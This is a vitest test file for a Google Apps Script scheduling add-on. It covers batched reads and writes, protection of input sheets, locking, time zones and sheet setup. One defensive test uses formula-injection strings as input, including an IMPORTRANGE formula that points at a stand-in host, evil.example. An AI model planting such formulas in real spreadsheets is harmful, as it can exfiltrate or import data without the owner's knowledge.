// The Apps Script adapter against the in-memory spreadsheet: how many calls a run makes, what it
// refuses to write, and that input sheets never change.

import { describe, expect, it } from 'vitest';
import { generateFirm } from '../../examples/generate-firm';
import { SAMPLE_MONDAY } from '../../examples/sample-workbook';
import { FakeRange, type FakeSpreadsheet } from '../../preview/gas/spreadsheet';
import { dayOf } from '../../src/model/dates';
import { readWorkbook } from '../../src/model/read';
import { sampleSheets } from '../../src/model/setup';
import { planSchedule } from '../../src/schedule/schedule';
import { timelineSheet } from '../../src/timeline/sheet';
import { buildTimeline } from '../../src/timeline/views';
import { addonWith, sampleAddon } from '../support/addon';

const INPUTS = ['Clients', 'Staff', 'TimeOff', 'Projects', 'Tasks', 'Templates', 'Costs', 'Quotas', 'Settings'];

function snapshotInputs(ss: FakeSpreadsheet) {
  return Object.fromEntries(ss.sheets.filter((s) => INPUTS.includes(s.name)).map((s) => [s.name, JSON.stringify(s.peek())]));
}

function scheduleOutput(rows: number) {
  return {
    name: 'Schedule',
    values: [['Project', 'Task', 'Start'], ...Array.from({ length: rows }, (_, i) => [`P${i % 7}`, `Task ${i}`, { date: '2027-01-04' }])],
    backgrounds: Array.from({ length: rows + 1 }, (_, i) => [i % 2 ? '#f1f3f4' : null, null, null]),
    boldRows: [0],
    frozenRows: 1,
    columnWidths: [160, 200, 90],
  };
}

describe.each([10, 5000])('a workbook with %i task rows', (taskRows) => {
  const firm = generateFirm({ staff: Math.max(5, Math.round(taskRows / 20)), tasks: taskRows, seed: 7 });

  it('is read with one getValues per input sheet', () => {
    const { ss, addon } = addonWith(firm);
    ss.log.reset();
    const snapshot = addon.run('getWorkbook', []) as { sheets: Record<string, unknown[][]> };
    expect(snapshot.sheets.Tasks).toHaveLength(taskRows + 1);
    for (const name of Object.keys(firm)) expect(ss.log.count('getValues', name)).toBe(1);
    expect(ss.log.count('getValues')).toBe(Object.keys(firm).length);
  });

  it('writes an output sheet with one setValues and one setBackgrounds', () => {
    const { ss, addon } = addonWith(firm);
    ss.log.reset();
    addon.run('writeOutputs', [[scheduleOutput(taskRows)]]);
    expect(ss.log.count('setValues')).toBe(1);
    expect(ss.log.count('setBackgrounds')).toBe(1);
    expect(ss.log.count('setFontWeights')).toBe(1);
    expect(ss.log.count('getValues')).toBe(0);
    const schedule = ss.sheets.find((s) => s.name === 'Schedule');
    expect(schedule?.peek()).toHaveLength(taskRows + 1);
  });
});

describe('writing a timeline', () => {
  it('takes one values write and one backgrounds write for a 500-task, 12-month plan', () => {
    const firm = generateFirm({ staff: 40, tasks: 500, months: 12, seed: 5 });
    const { plan } = readWorkbook(firm, { timeZone: 'UTC', today: dayOf(2027, 1, 4) });
    const result = planSchedule(plan, { iterations: 0 });
    const sheet = timelineSheet(buildTimeline(plan, result, { view: 'project', scale: 'auto', today: plan.planStart }), '2027-01-04');
    const { ss, addon } = addonWith(firm);
    ss.log.reset();
    addon.run('writeOutputs', [[sheet]]);
    expect(ss.log.count('setValues')).toBe(1);
    expect(ss.log.count('setBackgrounds')).toBe(1);
    const written = ss.sheets.find((s) => s.name === 'Timeline');
    expect(written?.peek().length).toBe(sheet.values.length);
    expect(written?.frozenColumns).toBe(sheet.frozenColumns);
  });
});

describe('writing output sheets', () => {
  it('never changes an input sheet', () => {
    const { ss, addon } = sampleAddon();
    const before = snapshotInputs(ss);
    addon.run('writeOutputs', [[scheduleOutput(20)]]);
    expect(snapshotInputs(ss)).toEqual(before);
    const inputWrites = ss.log.calls.filter((c) => /^set|^insert|^delete/.test(c.method) && INPUTS.includes(c.sheet ?? ''));
    expect(inputWrites).toEqual([]);
  });

  it('refuses to write an input sheet, and writes nothing of a batch that names one', () => {
    const { ss, addon } = sampleAddon();
    const before = snapshotInputs(ss);
    expect(() => addon.run('writeOutputs', [[scheduleOutput(3), { name: 'Staff', values: [['x']] }]])).toThrow(
      /only writes its own sheets/,
    );
    expect(snapshotInputs(ss)).toEqual(before);
    expect(ss.sheets.map((s) => s.name)).not.toContain('Schedule');
  });

  it('writes text that looks like a formula, number or date as text', () => {
    const { ss, addon } = addonWith();
    const tricky = ['=IMPORTRANGE("https://evil.example","A1")', '+1', '-2', '@everyone', '2026-11', '00123', 'TRUE', "'quoted"];
    addon.run('writeOutputs', [[{ name: 'Schedule', values: [tricky] }]]);
    const sheet = ss.sheets.find((s) => s.name === 'Schedule');
    expect(sheet?.formulas()).toEqual([]);
    expect(sheet?.peek()[0]).toEqual(tricky);
  });

  it('writes dates as real dates in the spreadsheet’s time zone', () => {
    const { ss, addon } = addonWith({}, 'Asia/Tokyo');
    addon.run('writeOutputs', [[{ name: 'Schedule', values: [[{ date: '2027-01-04' }]] }]]);
    const value = ss.sheets.find((s) => s.name === 'Schedule')?.peek()[0][0] as Date;
    expect(value).toBeInstanceOf(Date);
    expect(value.toISOString()).toBe('2027-01-03T15:00:00.000Z');
  });

  it('leaves the previous output intact when a write fails', () => {
    const { ss, addon } = sampleAddon();
    addon.run('writeOutputs', [[scheduleOutput(5)]]);
    const before = ss.sheets.find((s) => s.name === 'Schedule')?.peek();
    const original = FakeRange.prototype.setBackgrounds;
    FakeRange.prototype.setBackgrounds = () => {
      throw new Error('Service Spreadsheets timed out');
    };
    try {
      expect(() => addon.run('writeOutputs', [[scheduleOutput(9)]])).toThrow(/timed out/);
    } finally {
      FakeRange.prototype.setBackgrounds = original;
    }
    expect(ss.sheets.find((s) => s.name === 'Schedule')?.peek()).toEqual(before);
    expect(ss.sheets.map((s) => s.name).filter((n) => n.includes('updating'))).toEqual([]);
  });

  it('holds the document lock while writing, and releases it', () => {
    const { addon, services } = sampleAddon();
    const before = services.lock.acquired;
    addon.run('writeOutputs', [[scheduleOutput(2)]]);
    expect(services.lock.acquired).toBe(before + 1);
    expect(services.lock.held).toBe(false);
  });

  it('replaces an output sheet in place, keeping its tab position', () => {
    const { ss, addon } = sampleAddon();
    addon.run('writeOutputs', [[scheduleOutput(2)]]);
    const position = ss.sheets.findIndex((s) => s.name === 'Schedule');
    addon.run('writeOutputs', [[scheduleOutput(4)]]);
    expect(ss.sheets.findIndex((s) => s.name === 'Schedule')).toBe(position);
    expect(ss.sheets.filter((s) => s.name === 'Schedule')).toHaveLength(1);
  });
});

describe('set up sheets', () => {
  it('creates every missing input sheet with headers, notes, a frozen header and dropdowns', () => {
    const { ss, addon } = addonWith({
      Staff: [
        ['Name', 'Skills'],
        ['Ana', 'Audio'],
      ],
    });
    const report = addon.run('setUpSheets', [{}]) as { created: string[] };
    expect(report.created).toEqual(INPUTS.filter((n) => n !== 'Staff'));
    const tasks = ss.sheets.find((s) => s.name === 'Tasks');
    if (!tasks) throw new Error('no Tasks sheet');
    expect(tasks.peek()[0].slice(0, 4)).toEqual(['Project', 'Task', 'Skills', 'Hours']);
    expect(tasks.frozenRows).toBe(1);
    expect(tasks.cell(1, 3)?.note).toMatch(/Rigging:3 x2; LED:2/);
    const statusColumn = (tasks.peek()[0] as string[]).indexOf('Status') + 1;
    expect(tasks.cell(2, statusColumn)?.validation?.choices).toEqual(['Not Started', 'In Progress', 'Done']);
    expect(ss.sheets.find((s) => s.name === 'Staff')?.peek()).toEqual([
      ['Name', 'Skills'],
      ['Ana', 'Audio'],
    ]);
  });

  it('fills the sample firm only into an empty workbook', () => {
    const { ss, addon } = addonWith({
      Staff: [
        ['Name', 'Skills'],
        ['Ana', 'Audio'],
      ],
    });
    expect(() => addon.run('setUpSheets', [{ sample: sampleSheets(SAMPLE_MONDAY) }])).toThrow(/already have rows: Staff/);
    expect(ss.sheets.map((s) => s.name)).toEqual(['Staff']);
  });

  it('refuses sample rows that are not a table of plain values, and writes nothing', () => {
    const { ss, addon } = addonWith();
    expect(() => addon.run('setUpSheets', [{ sample: { Staff: [['Ana', { formula: '=1' }]] } }])).toThrow(/not a table of plain values/);
    expect(ss.sheets).toEqual([]);
  });

  it('fills an empty workbook that then reads without errors', () => {
    const { addon } = sampleAddon();
    const snapshot = addon.run('getWorkbook', []) as { sheets: Record<string, unknown[][]> };
    expect(Object.keys(snapshot.sheets).sort()).toEqual([...INPUTS].sort());
    expect(snapshot.sheets.Projects[1][5]).toEqual({ date: '2026-05-04' });
  });
});
